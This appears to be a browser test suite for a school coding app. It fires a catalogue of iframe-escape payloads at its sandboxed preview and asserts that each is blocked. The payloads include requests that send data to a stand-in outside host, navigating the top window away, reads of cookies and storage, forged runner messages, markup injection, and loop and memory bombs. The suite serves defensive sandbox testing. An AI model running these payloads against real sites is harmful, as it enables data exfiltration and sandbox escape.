"""A pupil's page tries to break out of its frame, in a real browser against a real server, in every way we know.

One table: what is tried, and with which page. After each try the same must hold: nothing was sent to the other server that
listens here, no window opened, nothing downloaded, no cookie and no stored thing is new, the page around the frame is
as it was, and it still shows the next page. A try that gets something it should not have says "GOT IN".

What cannot be closed is listed as known in docs/develop/workspace.md, and tried here too, so that the list stays true.
"""

import socket
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from playwright.sync_api import Error as PlaywrightError

from bench.server import Servers
from tests.classroom.serving import class_at_work, way_in

pytestmark = [pytest.mark.browser, pytest.mark.server]

LATER = 500  # milliseconds in which what was begun would have arrived
NEVER_ENDS = "never ends"
DID_NOT_ANSWER = "did not answer"


class Elsewhere:
    """Another server. It remembers what it was ``asked``, and how often somebody only ``knocked``: came and said nothing."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.knocked = 0
        self.door = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self.door.getsockname()[1]}"
        threading.Thread(target=self._listen, daemon=True).start()

    def forget(self) -> None:
        self.asked.clear()
        self.knocked = 0

    def _listen(self) -> None:
        with suppress(OSError):  # the door is shut
            while True:
                guest, _where = self.door.accept()
                self.knocked += 1
                threading.Thread(target=self._hear, args=(guest,), daemon=True).start()

    def _hear(self, guest: socket.socket) -> None:
        guest.settimeout(20)
        with guest, suppress(OSError):
            said = guest.recv(200)
            if said:
                self.asked.append(said.split(b"\r\n")[0].decode(errors="replace"))


@dataclass(frozen=True)
class Try:
    """``page`` is what the pupil writes; ``says`` is what must be said of it beside the result."""

    name: str
    page: str
    says: str = ""
    scripted: bool = True
    # Chromium opens a connection for a page to come before it asks whether the page may: nothing is said on it
    knocks: bool = False


def script(name: str, code: str, says: str = "", **more: Any) -> Try:
    """A try that is a script. ``GOT IN`` is what it says where it succeeds; each says first that it began."""
    return Try(
        name, f"<h1>x</h1><div id=d></div><script>console.log('began');\n{code}\n</script>", says, **more
    )


def reads(name: str, expression: str) -> Try:
    """A try to read something that throws where it is closed."""
    return script(
        name,
        f"try {{ console.log('GOT IN ' + ({expression})) }} catch (e) {{ console.log('closed') }}",
        "closed",
    )


def waits(name: str, promise: str) -> Try:
    """A try that answers later: a promise that must not be kept."""
    return script(
        name,
        f"(async () => {{ try {{ console.log('GOT IN ' + await ({promise})) }} catch (e) {{ console.log('closed') }} }})()",
        "closed",
    )


OUT = "http://ELSEWHERE"
FORM = f"<form id=f action='{OUT}/form' method=post><input name=a value=b></form>"
REQUESTS = [
    waits("fetch", f"fetch('{OUT}/fetch')"),
    waits("fetch without cors", f"fetch('{OUT}/fetch', {{mode: 'no-cors', keepalive: true}})"),
    waits("fetch of the app's own save", "fetch('/w/save', {method: 'POST', credentials: 'include', headers: {'X-Techgoals': 'save'}, body: '{}'})"),
    waits("XHR", f"new Promise((y, n) => {{ const x = new XMLHttpRequest(); x.onload = y; x.onerror = n; x.open('GET', '{OUT}/xhr'); x.send() }})"),
    script("beacon", f"navigator.sendBeacon('{OUT}/beacon', 'x')"),
    waits("WebSocket", "new Promise((y, n) => { const s = new WebSocket('ws://ELSEWHERE/ws'); s.onopen = y; s.onerror = n })"),
    waits("EventSource", f"new Promise((y, n) => {{ const s = new EventSource('{OUT}/es'); s.onopen = y; s.onerror = n }})"),
    waits("WebTransport", "new WebTransport('https://ELSEWHERE/wt').ready"),
    script("fetchLater", f"window.fetchLater ? fetchLater('{OUT}/later', {{activateAfter: 0}}) : 0"),
    Try("picture", f"<img src='{OUT}/img'><img srcset='{OUT}/set 2x'><picture><source srcset='{OUT}/source'><img></picture>", scripted=False),
    script("picture by script", f"new Image().src = '{OUT}/img'"),
    Try("style sheet", f"<link rel=stylesheet href='{OUT}/css'><style>@import url('{OUT}/import');</style>", scripted=False),
    Try("style that tells what is typed", f"<style>input[value^=a] {{ background: url('{OUT}/a') }} h1 {{ cursor: url('{OUT}/c'), auto; list-style: url('{OUT}/l'); border-image: url('{OUT}/b') 1 }}</style><h1>x</h1><input value=abc>", scripted=False),
    Try("font", f"<style>@font-face {{ font-family: x; src: url('{OUT}/font') }} h1 {{ font-family: x }}</style><h1>x</h1>", scripted=False),
    Try("audio and video", f"<audio autoplay src='{OUT}/audio'></audio><video autoplay src='{OUT}/video' poster='{OUT}/poster'></video><track src='{OUT}/track'>", scripted=False),
    Try("svg that fetches", f"<svg><image href='{OUT}/image'/><use href='{OUT}/use#a'/><filter id=f><feImage href='{OUT}/fe'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>", scripted=False),
    Try("link hints", "".join(f"<link rel={rel} as=script href='{OUT}/{rel}'>" for rel in ("prefetch", "preload", "preconnect", "dns-prefetch", "modulepreload", "prerender", "icon", "manifest")), scripted=False),
    script("link hints by script", f"for (const rel of ['prefetch', 'preload', 'preconnect', 'modulepreload', 'icon', 'manifest']) {{ const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = '{OUT}/' + rel; document.head.append(l) }}"),
    script("speculation rules", f"const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({{prefetch: [{{urls: ['{OUT}/spec']}}], prerender: [{{urls: ['{OUT}/spec']}}]}}); document.head.append(s)"),
    script("script from elsewhere", f"const s = document.createElement('script'); s.src = '{OUT}/script'; document.head.append(s)"),
    waits("import()", f"import('{OUT}/module.js')"),
    script("import map", f"const m = document.createElement('script'); m.type = 'importmap'; m.textContent = '{{\"imports\": {{\"x\": \"{OUT}/map\"}}}}'; document.head.append(m); import('x').catch(() => 0)"),
    script("ping of a link", f"const a = document.createElement('a'); a.href = '#x'; a.ping = '{OUT}/ping'; document.body.append(a); a.click()"),
    script("report of a broken policy", f"const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = \"img-src 'none'; report-uri {OUT}/report\"; document.head.append(m); new Image().src = '/x'"),
]  # fmt: skip
WINDOWS = [
    Try("form sent", FORM + "<script>console.log('began'); document.forms.f.submit()</script>"),
    *[Try(f"form sent to {target}", FORM.replace("<form", f"<form target={target}") + "<script>console.log('began'); document.forms.f.requestSubmit()</script>") for target in ("_blank", "_top", "_parent", "other")],
    Try("form sent by a button of its own address", f"<form><button id=b formaction='{OUT}/b' formtarget=_top>x</button></form><script>console.log('began'); document.getElementById('b').click()</script>"),
    script("window.open", f"window.open('{OUT}/open'); window.open('{OUT}/open', '_top'); window.open('/join/', '_parent')"),
    Try("link to a new window", f"<a id=a target=_blank rel=opener href='{OUT}/blank'>x</a><script>console.log('began'); document.getElementById('a').click()</script>", "This link goes to"),
    Try("link to the top", f"<a id=a target=_top href='{OUT}/top'>x</a><script>console.log('began'); addEventListener('click', e => e.stopImmediatePropagation(), true); document.getElementById('a').click()</script>"),
    script("top is sent away", f"try {{ top.location = '{OUT}/top' }} catch {{}} try {{ top.location.replace('/join/') }} catch {{}}"),
    script("parent is sent away", f"try {{ parent.location.href = '{OUT}/parent' }} catch {{}} try {{ parent.location.hash = '#pwned' }} catch {{}}"),
    script("the frame sends itself away", f"location.href = '{OUT}/self'", knocks=True),
    script("the frame sends itself away by refresh", f"const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url={OUT}/refresh'; document.head.append(m)", knocks=True),
    Try("refresh in the page", f"<meta http-equiv=refresh content='0;url={OUT}/refresh'><h1>x</h1>", scripted=False),
    Try("base", f"<base href='{OUT}/' target=_top><img src=base.png><a href=x>x</a>", scripted=False),
    script("navigation API", f"navigation.navigate('{OUT}/nav').finished.catch(() => 0)", knocks=True),
    script("javascript: in the parent", "try { parent.location = 'javascript:document.body.dataset.pwned=1' } catch {} try { open('javascript:parent.document.body.dataset.pwned=1', '_parent') } catch {}"),
    script("history full of entries", "for (let i = 0; i < 300; i++) { try { history.pushState(i, '', '#' + i) } catch {} } try { history.go(-1) } catch {}"),
    Try("download", "<a id=a download=x.txt href='data:text/plain,x'>x</a><script>console.log('began'); addEventListener('click', e => e.stopImmediatePropagation(), true); document.getElementById('a').click(); const u = URL.createObjectURL(new Blob(['x'])); const b = document.createElement('a'); b.href = u; b.download = 'y'; document.body.append(b); b.click()</script>"),
]  # fmt: skip
READS = [
    reads("parent's page", "parent.document.title"),
    reads("top's page", "top.document.cookie"),
    reads("the element around the frame", "frameElement.ownerDocument.title"),
    reads("opener", "opener.document.title"),
    reads("a frame beside it", "parent.frames[0].document === document ? (() => { throw 0 })() : parent.frames[0].document.title"),
    reads("parent's address", "parent.location.href"),
    reads("cookies", "document.cookie"),
    script("cookies written", "try { document.cookie = 'pwned=1; path=/' } catch { console.log('closed') }", "closed"),
    reads("localStorage", "localStorage.length"),
    reads("sessionStorage", "sessionStorage.length"),
    waits("indexedDB", "new Promise((y, n) => { const r = indexedDB.open('techgoals'); r.onsuccess = y; r.onerror = n })"),
    waits("caches", "caches.open('x')"),
    waits("cookie store", "cookieStore.getAll().then(all => all.length || Promise.reject())"),
    waits("private files", "navigator.storage.getDirectory()"),
    waits("locks", "navigator.locks.request('x', () => 1)"),
    script("BroadcastChannel", "try { const c = new BroadcastChannel('techgoals'); c.onmessage = () => console.log('GOT IN'); c.postMessage('pwned') } catch {}"),
    reads("referrer", "document.referrer ? 'referrer ' + document.referrer : (() => { throw 0 })()"),
]  # fmt: skip
DOCUMENTS = [
    Try("frame in the page", f"<iframe src='{OUT}/frame'></iframe><iframe srcdoc='<script>top.location=1</script>'></iframe><h1>x</h1>", scripted=False),
    script("frame by script", f"const f = document.createElement('iframe'); f.src = '{OUT}/frame'; document.body.append(f)", knocks=True),
    script("frame with a page of its own", f"const f = document.createElement('iframe'); f.srcdoc = '<script>fetch(\"{OUT}/srcdoc\").catch(() => 0); new Image().src=\"{OUT}/srcdoc\"</' + 'script>'; d.append(f); d.innerHTML += f.outerHTML", knocks=True),
    script("frame behind a shadow", f"const r = d.attachShadow({{mode: 'closed'}}); r.innerHTML = '<iframe src=\"{OUT}/shadow\"></iframe><img src=\"{OUT}/shadow\">'", knocks=True),
    script("object and embed", f"d.innerHTML = '<object data=\"{OUT}/object\"></object><embed src=\"{OUT}/embed\">'", knocks=True),
    script("portal and fenced frame", f"for (const n of ['portal', 'fencedframe']) {{ const e = document.createElement(n); e.src = '{OUT}/' + n; try {{ e.config = new FencedFrameConfig('{OUT}/ff') }} catch {{}} document.body.append(e) }}", knocks=True),
    script("blob: document", f"location = URL.createObjectURL(new Blob(['<script>fetch(\"{OUT}/blob\"); parent.document.body.dataset.pwned = 1</' + 'script>'], {{type: 'text/html'}}))"),
    script("data: document", f"location = 'data:text/html,<script>fetch(\"{OUT}/data\")</' + 'script>'"),
    script("javascript: document", f"location = 'javascript:fetch(\"{OUT}/js\").catch(() => 0)'"),
    script("worker", f"try {{ new Worker(URL.createObjectURL(new Blob(['fetch(\"{OUT}/worker\"); postMessage(1)']))).onmessage = () => console.log('GOT IN') }} catch {{ console.log('closed') }}"),
    script("worker from data:", f"try {{ new Worker('data:text/javascript,fetch(\"{OUT}/worker\");postMessage(1)').onmessage = () => console.log('GOT IN') }} catch {{ console.log('closed') }}"),
    script("shared worker", "try { new SharedWorker('data:text/javascript,onconnect=e=>e.ports[0].postMessage(1)').port.onmessage = () => console.log('GOT IN') } catch { console.log('closed') }"),
    waits("service worker", "navigator.serviceWorker.register('/runner/')"),
    waits("worklet", "CSS.paintWorklet ? CSS.paintWorklet.addModule('data:text/javascript,1') : Promise.reject()"),
    script("document.write and open", f"document.open(); document.write('<script>parent.postMessage(\"x\", \"*\"); new Image().src=\"{OUT}/write\"</' + 'script>'); document.close()"),
]  # fmt: skip
PEOPLE = [
    waits("geolocation", "new Promise((y, n) => navigator.geolocation.getCurrentPosition(y, n))"),
    waits("camera and microphone", "navigator.mediaDevices.getUserMedia({video: true, audio: true})"),
    waits("screen capture", "navigator.mediaDevices.getDisplayMedia()"),
    waits("clipboard read", "navigator.clipboard.readText()"),
    waits("clipboard written", "navigator.clipboard.writeText('pwned')"),
    waits("notifications", "Notification.requestPermission().then(a => a === 'granted' ? a : Promise.reject())"),
    waits("full screen", "document.documentElement.requestFullscreen()"),
    waits("pointer lock", "document.body.requestPointerLock()"),
    waits("payment", "new PaymentRequest([{supportedMethods: 'https://x.example'}], {total: {label: 'x', amount: {currency: 'GBP', value: '1'}}}).show()"),
    waits("passkey", "navigator.credentials.get({publicKey: {challenge: new Uint8Array(8)}})"),
    waits("share", "navigator.share({text: 'x'})"),
    waits("usb", "navigator.usb.requestDevice({filters: []})"),
    waits("wake lock", "navigator.wakeLock.request()"),
    waits("file picker", "showOpenFilePicker()"),
    waits("storage access", "document.requestStorageAccess()"),
    script("dialogs", "alert('hello'); confirm('really?'); prompt('your name?'); print()", "Your page says: hello"),
    script("dialogs that were put back", "delete window.alert; delete window.confirm; delete window.print; try { Window.prototype.alert.call(window, 1) } catch {} const f = document.createElement('iframe'); d.append(f); try { f.contentWindow.alert(1) } catch {}"),
    script("leaving is made hard", "onbeforeunload = e => { e.preventDefault(); return 'stay' }"),
]  # fmt: skip
TALK = [
    script("forged ready", "for (let i = 0; i < 5; i++) parent.postMessage('techgoals-runner-ready', '*')"),
    script("forged messages to the parent", "for (const m of [{type: 'said', how: 'log', text: 'GOT IN'}, {type: 'shown', run: 1}, null, [], 'x', {get a() { return 1 }}]) try { parent.postMessage(m, '*') } catch {}"),
    script("a port of its own", "const c = new MessageChannel(); c.port1.postMessage({type: 'said', how: 'log', text: 'GOT IN'}); parent.postMessage('techgoals-runner-port', '*', [c.port2]); parent.postMessage('techgoals-runner-ready', '*', [new MessageChannel().port2])"),
    script("a stolen port", "let port; const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...a) { port = this; return post.apply(this, a) }; console.log('steal'); MessagePort.prototype.postMessage = post;"
           "for (const m of [{type: 'said', how: 'log', text: 'x'.repeat(1e6)}, {type: 'said', how: 'GOT IN', text: 'GOT IN'}, {type: 'said', how: 'log', text: 'GOT IN', more: 1}, {type: 'fault', text: 'GOT IN', file: {}, line: 1}, {type: 'link', href: 7}, {type: '__proto__'}, {type: 'said', how: 'constructor', text: 'GOT IN'}, [1], 'x', 1, null, new Map([['type', 'said']]), new Error('GOT IN')]) port.postMessage(m);"
           "port.postMessage({type: 'shown', run: 1e9}); console.log('forged')", "forged"),
    script("a flood", "let port; const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...a) { port = this; return post.apply(this, a) }; console.log('steal'); MessagePort.prototype.postMessage = post; for (let i = 0; i < 50000; i++) port.postMessage({type: 'said', how: 'log', text: 'flood ' + i})"),
    script("a huge message", "parent.postMessage('x'.repeat(2e7), '*'); console.log('y'.repeat(1e6))"),
    script("a closed port", "const post = MessagePort.prototype.postMessage; MessagePort.prototype.postMessage = function (...a) { post.apply(this, a); this.close() }; console.log('bye')"),
    script("runner's listeners taken off", "document.open(); document.write('<h1>gone</h1>'); document.close(); onmessage = null; window.onerror = () => true"),
    script("Object, Array and ports redefined", "Object.prototype.type = 'said'; Object.prototype.how = 'log'; Array.prototype.map = Array.prototype.push = () => { throw 1 }; Object.defineProperty(MessageEvent.prototype, 'data', {get: () => ({type: 'show', html: 'GOT IN', scripted: true, run: 1})}); MessagePort.prototype.postMessage = () => { throw 1 }; String.prototype.slice = () => 'GOT IN'"),
    script("the loop counter called with garbage", "for (const g of [NaN, {}, Symbol(), 'x', -1, null, {toString() { throw 1 }}]) { try { __techgoals_loop(g) } catch {} } try { __techgoals_loop = 1 } catch {} try { Object.defineProperty(window, '__techgoals_loop', {value: 1}) } catch { console.log('closed') }", "closed"),
    script("markup in what is said", "const m = '<img src=x onerror=\"document.body.dataset.pwned=1\"><script>document.body.dataset.pwned=1</' + 'script>'; console.log(m); console.error(m); alert(m); confirm(m); prompt(m); console.log({toJSON: () => m}); Promise.reject(m)", "<img src=x"),
    script("markup in a fault", "throw new Error('<img src=x onerror=\"document.body.dataset.pwned=1\">')\n//# sourceURL=<img/src=x/onerror=document.body.dataset.pwned=1>", "Something went wrong"),
    Try("markup in a link", "<a id=a href='javascript:parent.document.body.dataset.pwned=1//<img src=x onerror=document.body.dataset.pwned=1>'>x</a><script>console.log('began'); document.getElementById('a').click()</script>", "This link goes to"),
    script("a saying whose text is a trap", "console.log({toString() { throw 1 }, toJSON() { throw 1 }}, new Proxy({}, {get() { throw 1 }}), document.body, Symbol('x'), 10n)"),
]  # fmt: skip
BOMBS = [
    *[script(f"loop: {code}", code, NEVER_ENDS) for code in (
        "while (true) {}", "for (;;);", "do {} while (1)", "for (let i = 0; i < 10; i--) { i = i }",
        "outer: while (1) { inner: for (;;) { if (0) break outer; continue inner } }",
        "const a = [1]; for (const x of a) a.push(x)", "while (1) try { throw 1 } catch { continue }",
        "(function* () { while (1) yield 1 })().forEach?.(() => 0); for (const x of (function* () { while (1) yield 1 })()) {}",
    )],
    script("a loop that no counter counts", "new Set({[Symbol.iterator]: () => ({next: () => ({value: 1})})})", DID_NOT_ANSWER),
    Try("a loop in a handler", "<body onload=\"console.log('began'); while (true) {}\">", DID_NOT_ANSWER),
    script("regular expression", "/^(a+)+$/.test('a'.repeat(45) + 'b')", DID_NOT_ANSWER),
    script("microtasks", "const f = () => Promise.resolve().then(f); f()", DID_NOT_ANSWER),
    script("recursion", "function f() { f() } f()", "Maximum call stack"),
    script("timers", "for (let i = 0; i < 20000; i++) setInterval(() => { document.title = i }, 0)"),
    script("elements", "for (let i = 0; i < 200000; i++) document.body.append(document.createElement('p'))"),
    script("WebAssembly loop", "const m = new WebAssembly.Module(new Uint8Array([0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,7,5,1,1,102,0,0,10,9,1,7,0,3,64,12,0,11,11])); new WebAssembly.Instance(m).exports.f()"),
    script("memory", "const a = []; for (;;) a.push(new Array(2000).fill(Math.random()))"),
]  # fmt: skip
TRIES = [*REQUESTS, *WINDOWS, *READS, *DOCUMENTS, *PEOPLE, *TALK, *BOMBS]


@pytest.fixture(scope="module")
def seeded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Servers, dict[str, Any]]]:
    """One server for all tries, with a class at work: none of them may change what the next one meets."""
    with class_at_work(tmp_path_factory.mktemp("breaking-out") / "home") as at_work:
        yield at_work


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    there = Elsewhere()
    yield there
    there.door.close()


WATCH = """() => {
  window.heard = []
  const list = document.querySelector('.sayings')
  new MutationObserver(changes => { for (const c of changes) for (const n of c.addedNodes) heard.push(n.textContent) })
    .observe(list, {childList: true})
}"""
AROUND = """() => ({
  title: document.title, address: location.href, marks: {...document.body.dataset}, pwned: typeof window.pwned,
  children: [...document.body.children].map(e => e.tagName + '#' + e.id), scripts: document.scripts.length,
  kept: Object.keys(localStorage).filter(name => name !== 'techgoals-plain-editor').sort(),
  workspace: [...document.querySelector('#workspace').children].map(e => e.className).join(),
})"""


class Desk:
    """A pupil's lesson with the plain text box; opened anew where the last try left it broken."""

    def __init__(self, browser: Browser, servers: Servers, seed: dict[str, Any]) -> None:
        self.browser, self.servers, self.seed = browser, servers, seed
        self.wrong: list[str] = []
        self.sound = False

    def open(self) -> Page:
        """The page, with nothing wrong yet."""
        self.wrong.clear()
        if self.sound:
            self.page.evaluate("heard.length = 0")
            return self.page
        context = self.browser.new_context(geolocation={"latitude": 52, "longitude": -1})
        # the page around the frame may do all this, so that it is the frame which is refused
        asked_for = ["geolocation", "clipboard-read", "clipboard-write", "camera", "microphone"]
        context.grant_permissions(asked_for, origin=self.servers.address)
        context.add_init_script("try { localStorage.setItem('techgoals-plain-editor', 'on') } catch {}")
        self.page = page = context.new_page()
        page.goto(way_in(self.servers, self.seed, self.seed["cards"][0]))
        page.wait_for_url("**/w/")
        page.locator("textarea.plain-editor").wait_for()
        context.on("page", lambda new: self.wrong.append(f"a window opened: {new.url}"))
        page.on("dialog", lambda dialog: (self.wrong.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
        page.on("download", lambda download: self.wrong.append(f"a download: {download.url}"))
        page.on("crash", lambda _page: self.wrong.append("the page crashed"))
        self.show_the_next_page()  # the pupil's work is the last try, which ran again when this page was opened
        page.evaluate(WATCH)
        return page

    def write(self, text: str) -> None:
        """What a pupil would type, all at once."""
        self.page.locator("textarea.plain-editor").fill(text)

    def show_the_next_page(self) -> None:
        """Alive is a page that shows what is typed."""
        self.write("<h1 id='alive'>Still here</h1>")
        frame = self.page.frame_locator(".preview-frame:not(.is-getting-ready)")
        expect(frame.locator("#alive")).to_be_visible(timeout=20_000)

    def hear(self, words: str, seconds: float = 15) -> None:
        """Wait until something with these words is said beside the result."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            if any(words in line for line in self.page.evaluate("heard")):
                return
            self.page.wait_for_timeout(50)
        raise AssertionError(f"nothing says {words!r}; heard {self.page.evaluate('heard.slice(0, 5)')}")


@pytest.fixture(scope="module")
def desk(browser: Browser, seeded: tuple[Servers, dict[str, Any]]) -> Desk:
    return Desk(browser, *seeded)


@pytest.mark.parametrize("attempt", TRIES, ids=lambda one: one.name)
def test_nothing_gets_out(attempt: Try, desk: Desk, elsewhere: Elsewhere):
    page = desk.open()
    desk.sound = False
    elsewhere.forget()
    before, cookies = page.evaluate(AROUND), page.context.cookies()
    desk.write(attempt.page.replace("ELSEWHERE", elsewhere.address))
    if attempt.scripted:
        desk.hear("began")
    if attempt.says:
        desk.hear(attempt.says)
    page.wait_for_timeout(LATER)
    heard = page.evaluate("heard")
    assert not [line for line in heard if line.startswith("GOT IN")]
    assert max((len(line) for line in heard), default=0) < 700
    desk.show_the_next_page()
    assert page.evaluate(AROUND) == before
    assert page.context.cookies() == cookies
    assert not desk.wrong
    assert not elsewhere.asked
    assert attempt.knocks or not elsewhere.knocked
    desk.sound = True


def test_who_is_not_in_the_frame_is_heard_elsewhere(desk: Desk, elsewhere: Elsewhere):
    """The tries above can fail."""
    page = desk.open().context.new_page()
    elsewhere.forget()
    with suppress(PlaywrightError):  # it listens and never answers
        page.goto(f"http://{elsewhere.address}/from-outside", timeout=2000)
    page.close()
    assert "GET /from-outside HTTP/1.1" in elsewhere.asked


def test_what_is_listed_as_known_is_still_so(desk: Desk, elsewhere: Elsewhere):
    """A browser that closes WebRTC to sandboxed frames one day makes this fail: then the list gets shorter."""
    desk.open()
    elsewhere.forget()
    call = (
        f"const c = new RTCPeerConnection({{iceServers: [{{urls: 'turn:{elsewhere.address}?transport=tcp', username: 'a', credential: 'b'}}]}});"
        " c.createDataChannel('x'); c.createOffer().then(offer => c.setLocalDescription(offer))"
    )
    desk.write(f"<h1>x</h1><script>console.log('began');\n{call}\n</script>")
    desk.hear("began")
    desk.page.wait_for_timeout(2000)
    assert elsewhere.knocked
    desk.show_the_next_page()
